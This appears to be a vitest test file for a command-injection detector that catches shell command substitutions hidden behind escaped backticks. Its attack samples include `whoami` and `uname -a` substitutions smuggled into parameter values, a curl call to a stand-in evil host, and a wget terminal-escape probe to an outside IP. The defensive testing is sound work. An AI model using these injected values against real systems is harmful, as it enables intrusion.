/**
 * A command substitution spelled with escaped backticks, `` \`whoami\` ``: one more layer of unescaping
 * (`sh -c "...\`whoami\`"`, an `eval`) runs it. The backslash before the closing backtick read as a path separator
 * (`whoami\` a directory), and in a value of three words or more the escaped pair was set aside as Markdown code, so
 * it passed at every paranoia. Markdown escapes backticks too (`` \`ls\` `` is literal text there): only a command
 * nobody names in prose counts.
 */
import { describe, expect, it } from 'vitest';
import { createCmdiDetector } from '../../../src/verifiers/payload-shield/cmdi.js';
import { checkBody } from './review-helpers.js';
import { ruleOf } from './helpers.js';

const cmdi = createCmdiDetector();

const ATTACKS = [
  'a=\\`whoami\\`',
  '\\`whoami\\`',
  '\\` whoami \\`',
  '\\`uname -a\\`',
  '\\`curl http://evil.example/x\\`',
  'x?user=\\`whoami\\`&y=1',
  '\\\\\\`whoami\\\\\\`', // three backslashes: the last escapes the backtick
  // A terminal-escape probe: a literal `\n`, an ESC sequence, then a download carrying an escaped substitution.
  '\\n\\033[2wget http://203.0.113.7/.testing/term_escape.txt?vuln=2?user=\\`whoami\\`',
];

const BENIGN = [
  'use \\`ls\\` to list the files',
  'use \\`ls -la\\` to list the files',
  'a Markdown editor writes \\`code\\` for a literal backtick',
  '\\\\`whoami\\\\`', // two backslashes escape each other: the backticks are not escaped
  '\\`whoamix\\`',
  'C:\\`temp\\`',
];

describe('cmdi: escaped-backtick substitution', () => {
  it('fires on an unambiguous command between escaped backticks, at paranoia 1 and 2', () => {
    for (const paranoia of [1, 2]) {
      expect(ATTACKS.map((v) => [v, ruleOf(cmdi, v, 'body', 'q', paranoia)])).toEqual(ATTACKS.map((v) => [v, 'cmdi-command-substitution']));
    }
  });

  it('passes escaped backticks around prose words, ambiguous commands, even runs and unclosed spans', () => {
    expect(BENIGN.map((v) => [v, ruleOf(cmdi, v)])).toEqual(BENIGN.map((v) => [v, undefined]));
  });

  it('denies the probe through createShield().check, in a JSON body and in the query', async () => {
    const probe = '\\n\\033[2wget http://203.0.113.7/x.txt?user=\\`whoami\\`';
    expect((await checkBody({ host: probe })).detail).toContain('cmdi-command-substitution@body.host');
    expect((await checkBody({}, {}, `host=${encodeURIComponent(probe)}`)).allowed).toBe(false);
    expect((await checkBody({ note: 'use \\`ls\\` to list the files' })).allowed).toBe(true);
  });

  it('reads 100 KB of escaped backticks once (no quadratic search)', () => {
    expect(ruleOf(cmdi, 'x\\`'.repeat(30_000) + '\\`whoami\\`')).toBe('cmdi-command-substitution');
    expect(ruleOf(cmdi, '\\`ls'.repeat(30_000))).toBeUndefined();
  });
});
